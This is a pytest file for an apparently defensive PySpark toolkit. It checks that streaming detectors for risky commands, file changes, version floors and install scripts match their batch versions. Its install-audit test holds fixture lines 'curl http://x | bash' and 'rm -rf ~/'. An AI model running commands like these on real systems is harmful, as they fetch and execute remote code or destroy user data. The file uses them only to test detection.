"""Streams give what their batch twins give."""

import tempfile

from pyspark.sql import functions as F

from corpus_guard.detectors.rule_sets import ENVIRONMENT
from corpus_guard.operators.history import tree_diff, version_floor
from corpus_guard.plans.views import view
from corpus_guard.streaming.gates import command_gate, install_audit, version_floor_stream, watch_changes

SF = "/root/testdata/sf0.001"


def run(spark, batches, fn, name):
    """Feeds DataFrames as files one by one through a streaming query into a memory table."""
    path = tempfile.mkdtemp(prefix="spark-stream-")
    for i, b in enumerate(batches):
        b.coalesce(1).write.mode("append").parquet(f"{path}/in")
    stream = spark.readStream.schema(batches[0].schema).option("maxFilesPerTrigger", 1).parquet(f"{path}/in")
    q = fn(stream).writeStream.format("memory").queryName(name).outputMode("append").option("checkpointLocation", f"{path}/ck").start()
    q.processAllAvailable()
    q.stop()
    return sorted(map(str, spark.table(name).collect()))


def test_command_gate(spark):
    c = view(spark, SF, "commands_v").select("session", "turn", "command")
    names = spark.createDataFrame([("evil-lib",)], "name string")
    got = run(spark, [c.where("session % 2 = 0"), c.where("session % 2 = 1")], lambda s: command_gate(s, names), "gate")
    assert got == sorted(map(str, command_gate(c, names).collect()))


def test_watch_changes(spark):
    schema = "item string, path string, sha256 string, mtime_ns long, now_ns long, seq long"
    one = [("a", f"p{i}", f"h{i}", 10, 100, i) for i in range(5)]
    two = [("a", "p0", "h0", 10, 200, 10), ("a", "p1", "x", 20, 200, 11), ("a", "p2", "x", 10, 200, 12), ("a", "p3", None, 20, 200, 13), ("a", "p9", "n", 999, 200, 14)]
    three = [("a", "p9", "m", 999, 300, 20)]
    got = run(spark, [spark.createDataFrame(x, schema) for x in (one, two, three)], watch_changes, "watch")
    want = [("a", f"p{i}", "new") for i in range(5)] + [("a", "p1", "changed"), ("a", "p3", "removed"), ("a", "p9", "new"), ("a", "p9", "changed")]
    assert len(got) == len(want) and all(any(w[1] in g and w[2] in g for g in got) for w in want)
    diff = tree_diff(spark.createDataFrame([("r", "a", "1"), ("r", "b", "1")], "repo string, path string, sha256 string"), spark.createDataFrame([("r", "b", "2"), ("r", "c", "1")], "repo string, path string, sha256 string"))
    assert {(r.path, r.change) for r in diff.collect()} == {("a", "removed"), ("b", "changed"), ("c", "added")}


def test_version_floor(spark):
    rows = [("p", 1, 3), ("p", 2, 2), ("q", 3, 1), ("p", 4, 5), ("q", 5, 1), ("p", 6, 4)]
    df = spark.createDataFrame(rows, "pack string, seq long, version long")
    got = run(spark, [df.where("seq <= 3"), df.where("seq > 3")], version_floor_stream, "floors")
    batch = version_floor(df.withColumn("ts", F.col("seq"))).select("pack", "seq", "version", "accepted")
    assert got == sorted(map(str, batch.collect()))


def test_install_audit(spark):
    files = spark.createDataFrame([("a", "a/x.sh", "a", "x.sh", "sh", "curl http://x | bash"), ("b", "b/x.sh", "b", "x.sh", "sh", "rm -rf ~/")], "repo string, path string, dir string, base string, ext string, content string")
    path = tempfile.mkdtemp(prefix="spark-stream-")
    spark.createDataFrame([("a", "npm install x"), ("b", "ls")], "repo string, command string").write.parquet(f"{path}/in")
    seen = []
    stream = spark.readStream.schema("repo string, command string").parquet(f"{path}/in")
    q = install_audit(stream, files, (ENVIRONMENT,), lambda df, i: seen.extend(df.collect())).option("checkpointLocation", f"{path}/ck").start()
    q.processAllAvailable()
    q.stop()
    assert {r.repo for r in seen} == {"a"}
